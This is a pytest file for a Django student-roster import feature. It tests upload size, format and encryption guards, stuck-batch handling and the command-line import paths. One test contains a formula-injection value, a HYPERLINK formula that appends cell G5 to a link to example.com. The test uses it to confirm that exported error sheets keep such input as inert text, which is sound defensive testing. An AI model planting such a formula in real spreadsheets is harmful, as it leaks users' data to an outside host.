"""Refused uploads are not kept, a batch never stays "checking", every
import path (web and command line, roster and attendance) takes the same
guard, and the error sheet hands back text as text."""

import datetime
import io
import json
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from students import tasks
from students.models import ImportBatch

from .import_helpers import roster_rows, xlsx
from .upload_files import encrypted

ENCRYPTED = "该文件已加密，请取消密码后再导入。"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


def stored_files(settings):
    return [p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()]


def upload(client, world, content, name="台账.xlsx", capture=None):
    data = {"kind": "roster", "village": world.v1.pk, "file": SimpleUploadedFile(name, content)}
    with capture(execute=True):
        return client.post(reverse("import_list"), data)


def test_a_refused_upload_is_never_stored(
    world, login, settings, django_capture_on_commit_callbacks
):
    client = login(world.village_user)
    settings.IMPORT_MAX_BYTES = 50_000
    big = xlsx(roster_rows()) + b"\0" * 60_000  # over the limit
    resp = upload(client, world, big, capture=django_capture_on_commit_callbacks)
    page = resp.content.decode()
    assert resp.status_code == 200 and "文件过大" in page and "请拆分后分批导入" in page
    resp = upload(client, world, b"%PDF-1.4 fake", capture=django_capture_on_commit_callbacks)
    assert "请上传 Excel 文件（.xlsx 或 .xls）" in resp.content.decode()
    resp = upload(
        client, world, encrypted(xlsx(roster_rows())), capture=django_capture_on_commit_callbacks
    )
    assert ENCRYPTED in resp.content.decode()
    assert not ImportBatch.objects.exists() and stored_files(settings) == []


def test_a_sheet_refused_while_reading_is_deleted_at_once(
    world, login, settings, django_capture_on_commit_callbacks
):
    settings.IMPORT_MAX_ROWS = 1  # the sheet has 3 rows: found only while reading it
    client = login(world.village_user)
    upload(client, world, xlsx(roster_rows()), capture=django_capture_on_commit_callbacks)
    batch = ImportBatch.objects.get()
    assert batch.state == ImportBatch.State.INVALID and batch.message.startswith("行数过多")
    assert stored_files(settings) == []
    assert "行数过多" in client.get(reverse("import_detail", args=[batch.pk])).content.decode()


def test_a_batch_whose_task_dies_is_failed_with_a_message(world, login, settings):
    batch = ImportBatch.objects.create(
        kind="roster", county=world.county, village=world.v1, user=world.village_user,
        filename="台账.xlsx",
    )  # fmt: skip
    batch.file.save("台账.xlsx", SimpleUploadedFile("台账.xlsx", xlsx(roster_rows())))
    Path(batch.file.path).unlink()  # the stored file is gone: reading it raises
    tasks.check_import(batch.pk)
    batch.refresh_from_db()
    assert batch.state == ImportBatch.State.FAILED and "请重新上传" in batch.message
    page = login(world.village_user).get(reverse("import_detail", args=[batch.pk]))
    assert "导入失败" in page.content.decode() and "请重新上传" in page.content.decode()


def test_a_batch_stuck_in_checking_is_shown_as_failed(world, login, settings):
    batch = ImportBatch.objects.create(
        kind="roster", county=world.county, village=world.v1, user=world.village_user,
        filename="台账.xlsx", state=ImportBatch.State.CHECKING,
    )  # fmt: skip
    batch.file.save("台账.xlsx", SimpleUploadedFile("台账.xlsx", xlsx(roster_rows())))
    client = login(world.village_user)
    progress = client.get(reverse("import_progress", args=[batch.pk])).json()
    assert progress["busy"] is True  # a worker may still be on it
    long_ago = timezone.now() - datetime.timedelta(minutes=settings.IMPORT_STUCK_MINUTES + 1)
    ImportBatch.objects.filter(pk=batch.pk).update(created_at=long_ago, claimed_at=long_ago)
    progress = client.get(reverse("import_progress", args=[batch.pk])).json()
    assert progress["busy"] is False and progress["label"] == "导入失败"
    page = client.get(reverse("import_detail", args=[batch.pk])).content.decode()
    assert "处理超时" in page and "请重新上传" in page
    assert stored_files(settings) == []


def test_the_error_sheet_hands_back_a_formula_as_text(
    world, login, django_capture_on_commit_callbacks
):
    link = '=HYPERLINK("http://example.com/?id="&G5,"点我")'
    book = load_workbook(io.BytesIO(xlsx(roster_rows({(2, "联系电话"): link}))))
    typed = next(c for row in book.active.iter_rows() for c in row if c.value == link)
    typed.data_type = "s"  # typed as text in the village's sheet, e.g. after a leading '
    content = io.BytesIO()
    book.save(content)
    client = login(world.village_user)
    upload(client, world, content.getvalue(), capture=django_capture_on_commit_callbacks)
    batch = ImportBatch.objects.get()
    assert batch.state == ImportBatch.State.INVALID and batch.errors
    resp = client.get(reverse("import_errors", args=[batch.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(resp.streaming_content))).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == link)
    assert cell.data_type == "s"  # text, as typed: not a live formula
    assert cell.fill.fgColor.rgb.endswith("FFC7CE")


def test_the_command_lines_take_the_same_guard(world, tmp_path, capsys):
    path = tmp_path / "台账.xlsx"
    path.write_bytes(encrypted(xlsx(roster_rows())))
    with pytest.raises(SystemExit):
        call_command(
            "import_roster", str(path), "--county", "测试县", "--village", "一村", "--json"
        )
    assert json.loads(capsys.readouterr().out)["errors"][0]["message"] == ENCRYPTED
    with pytest.raises(SystemExit):
        call_command("import_attendance", str(path), "--json")
    assert json.loads(capsys.readouterr().out)["errors"][0]["message"] == ENCRYPTED


def test_the_attendance_upload_takes_the_same_guard(world, login, settings):
    client = login(world.teacher)
    resp = client.post(
        reverse("cases:attendance_import"),
        {"file": SimpleUploadedFile("缺勤.xlsx", encrypted(xlsx([["日期", "姓名", "状态"]])))},
    )
    assert ENCRYPTED in resp.content.decode()
    assert stored_files(settings) == []
